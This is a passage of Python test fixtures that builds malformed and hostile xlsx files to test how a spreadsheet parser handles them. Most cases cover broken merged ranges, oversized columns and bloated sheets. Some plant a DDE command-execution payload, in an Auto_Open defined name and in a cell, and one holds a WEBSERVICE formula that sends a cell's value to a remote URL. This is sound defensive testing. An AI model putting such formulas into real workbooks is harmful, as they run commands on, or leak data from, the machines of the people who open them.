    either("merge_all", "one merged range over the whole sheet", f"{_BOTH} LAYOUT_UNSURE ROW_UNNAMED COLUMNS_ALIKE", lambda: _merged("A1:XFD1048576")),
    accepted("merge_below", "a merged range from below the table to the end", lambda: _merged("A9:XFD1048576")),
    either("merge_overlap", "two merged ranges that overlap, away from the table", _DAMAGED, lambda: _merged("E1:G3", "F2:H4")),
    either("merge_reversed", "a merged range from its end to its beginning", _DAMAGED, lambda: _merged("G4:E2")),
    accepted("merge_single", "a merged range of one cell", lambda: _merged("C6", "C7:C7")),
    either("merge_word", "a merged range that is no range", _DAMAGED, lambda: _merged("x:y", "")),
    either("merge_beyond", "a merged range beyond the sheet", _DAMAGED, lambda: _merged("A9999999:ZZZ9999999")),
    accepted("merge_title", "a title merged over the table", lambda: _merged("A1:C1")),
    either("merge_of_figures", "a merged range over the two districts' figures", f"{_DAMAGED} COLUMNS_ALIKE", lambda: _merged("E6:E7"), others=frozenset({"7", "3", "678"})),
    accepted("names_recursive", "a defined name that refers to itself", lambda: xlsx({BOOK: book_part(after='<definedNames><definedName name="a">a</definedName></definedNames>')})),
    accepted("names_formula", "a defined name that runs a command", lambda: xlsx({BOOK: book_part(after="<definedNames><definedName name=\"_xlnm.Auto_Open\">CMD|'/c calc'!A0</definedName></definedNames>")})),
    accepted("sheet_protected", "a protected sheet", lambda: with_sheet(sheet(after='<sheetProtection password="CC1A" sheet="1"/>'))),
    accepted("sheet_filtered", "a filter that hides nothing", lambda: with_sheet(sheet(after='<autoFilter ref="A5:C7"/>'))),
    either("sheet_huge_cols", "columns to 4,294,967,295", _DAMAGED, lambda: with_sheet(sheet(before='<cols><col min="1" max="4294967295" width="9"/></cols>'))),
    either("sheet_hidden_cols_huge", "hidden columns to 4,294,967,295, from the tenth", _DAMAGED, lambda: with_sheet(sheet(before='<cols><col min="10" max="4294967295" hidden="1"/></cols>'))),
    either("sheet_cols_word", "columns to the word many", _DAMAGED, lambda: with_sheet(sheet(before='<cols><col min="10" max="many" hidden="1"/></cols>'))),
    accepted("sheet_10k_hidden_rows", "a million empty hidden rows in a few marks", lambda: with_sheet(sheet(rows() + "".join(f'<row r="{n}" hidden="1"/>' for n in range(20, 10_020))))),
    accepted("sheet_validations", "10,000 rules of what may be typed", lambda: with_sheet(sheet(after="<dataValidations>" + "".join(f'<dataValidation type="list" sqref="E{n}"><formula1>"a,b"</formula1></dataValidation>' for n in range(1, 10_001)) + "</dataValidations>"))),
    accepted("sheet_dde", "a formula in an empty corner that runs a command", lambda: with_cells(C6=number("C6", "12345"), E9=formula("E9", "cmd|'/c calc'!A0", "", "str"))),
    accepted("sheet_webservice", "a formula that asks somebody's server", lambda: with_cells(E9=formula("E9", f'WEBSERVICE("{URL}/"&C6)', "", "str"))),
)  # fmt: skip
